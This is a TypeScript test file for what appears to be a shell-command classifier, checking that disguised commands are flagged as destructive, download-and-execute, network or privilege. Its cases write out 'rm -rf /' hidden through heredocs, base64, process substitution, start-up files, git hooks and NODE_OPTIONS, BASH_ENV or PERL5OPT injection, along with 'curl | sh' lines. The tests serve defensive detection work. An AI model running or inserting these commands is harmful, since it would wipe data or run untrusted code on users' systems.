import { describe, expect, it } from 'vitest';
import { classifyCommand } from './classify-command.ts';

const ALL = ['credentials', 'destructive', 'downloadExec', 'network', 'privilege'];
const classes = (command: string) =>
  [...new Set(classifyCommand(command).findings.map((f) => f.class))].sort();

describe('files written and run in the same command line', () => {
  it.each([
    // Written with echo, printf, a heredoc or tee, then run by a shell, `source` or directly.
    [`echo 'rm -rf /' > x.sh && sh x.sh`, ['destructive']],
    ['cat > /tmp/x.sh <<EOF\nrm -rf /\nEOF\nbash /tmp/x.sh', ['destructive']],
    [`echo 'rm -rf /' > x.sh; chmod +x x.sh; ./x.sh`, ['destructive']],
    [`echo 'rm -rf /' | tee x.sh; . ./x.sh`, ['destructive']],
    [`echo 'rm -rf /' 1> x.sh; sh x.sh`, ['destructive']],
    [`sh -c 'echo "rm -rf /" > x.sh'; sh x.sh`, ['destructive']],
    [`(echo 'rm -rf /' > x.sh); sudo sh x.sh`, ['destructive', 'privilege']],
    // Appended in parts: the parts are read together.
    [`printf 'rm -rf ' > x.sh; printf / >> x.sh; sh x.sh`, ['destructive']],
    // Read back by another route: standard input, cat, a substitution, a copy or a move.
    [`echo 'rm -rf /' > x.sh; sh < x.sh`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; cat x.sh | sh`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; bash -c "$(cat x.sh)"`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; source <(cat x.sh)`, ['destructive']],
    [`echo 'rm -rf /' > x.sh; mv x.sh y.sh; sh y.sh`, ['destructive']],
    // Two files of one name: both are judged, since which one runs is not known.
    [`echo 'rm -rf /' > a/x.sh; echo hi > b/x.sh; sh b/x.sh`, ['destructive']],
    // Other languages: by the program that runs the file, or by its #! line when run directly.
    [`printf 'import shutil; shutil.rmtree("/")' > x.py; python3 x.py`, ['destructive']],
    [`echo "require('fs').rmSync('/', { recursive: true })" > x.js && node x.js`, ['destructive']],
    [
      'cat > x.py <<EOF\n#!/usr/bin/env python3\nimport shutil; shutil.rmtree("/")\nEOF\n./x.py',
      ['destructive'],
    ],
    [`echo 'import os; os.system("id")' > x.py; python3 < x.py`, ALL],
    // Content nobody can read before it runs, or a download.
    ['base64 -d <<< cm0gLXJmIC8= > x.sh; bash x.sh', ALL],
    ['curl -s https://x.io/i.sh > i.sh; sh i.sh', ['downloadExec', 'network']],
  ])('judges a file by what was written into it: %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });

  it.each([
    'echo hi > x.sh; sh x.sh',
    `echo 'print(1)' > x.py; python3 x.py`,
    `{ echo 'rm -rf'; echo ' /'; } > x.sh; sh x.sh`,
    // What is written but not run, and scripts on disk, are not judged by their name.
    `echo 'rm -rf /' > notes.txt`,
    'bash x.sh',
    'ls > files.txt; bash files.txt',
  ])('passes what runs nothing harmful: %s', (command) => {
    expect(classes(command)).toEqual([]);
  });

  it.each([
    // Piped on by cat and tee, not hidden by them.
    ['cat <<EOF | bash\nrm -rf /\nEOF', ['destructive']],
    [`echo 'rm -rf /' | tee log | sh`, ['destructive']],
    ['cat <<EOF | bash\necho hi\nEOF', []],
    // `<( … )` as the script a shell or `source` reads.
    [`bash <(echo 'rm -rf /')`, ['destructive']],
    [`source <(echo 'rm -rf /')`, ['destructive']],
    ['. <(base64 -d <<< cm0gLXJmIC8=)', ALL],
    ['source <(kubectl completion bash)', []],
  ])('reads what cat, tee and process substitutions pass to a shell: %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });

  it.each([
    [`echo 'rm -rf ~' >> ~/.bashrc`, ['destructive']],
    [
      `printf '#!/bin/sh\\ncurl -s http://x.io/i | sh\\n' > .git/hooks/pre-commit`,
      ['downloadExec', 'network'],
    ],
    [`echo 'export PATH="$PATH:$HOME/bin"' >> ~/.bashrc`, []],
  ])('judges what goes into a file that runs later (start-up files, git hooks): %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });
});

describe('variables an interpreter reads as options or a start-up script', () => {
  it.each([
    [
      `NODE_OPTIONS='--import=data:text/javascript,require("fs").rmSync("/",{recursive:true})' node app.js`,
      ['destructive'],
    ],
    [
      `echo 'require("fs").rmSync("/",{recursive:true})' > e.js; NODE_OPTIONS='--require ./e.js' npm test`,
      ['destructive'],
    ],
    [
      `export NODE_OPTIONS='--import=data:text/javascript,require("child_process").execSync("id")'; npm test`,
      ALL,
    ],
    [`echo 'rm -rf /' > e.sh; BASH_ENV=e.sh bash -c ls`, ['destructive']],
    [`PERL5OPT='-Mstrict;system("rm -rf /")' perl x.pl`, ALL],
  ])('judges the code they load: %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });

  it.each([
    'NODE_OPTIONS=--max-old-space-size=4096 npm run build',
    `NODE_OPTIONS='--require ts-node/register --enable-source-maps' node x.js`,
    'NODE_OPTIONS=$OPTS node app.js',
    'PERL5OPT=-Mstrict perl x.pl',
    'RUBYOPT=-rjson ruby x.rb',
    'BASH_ENV=~/.bash_env bash -c ls',
  ])('passes ordinary settings: %s', (command) => {
    expect(classes(command)).toEqual([]);
  });
});
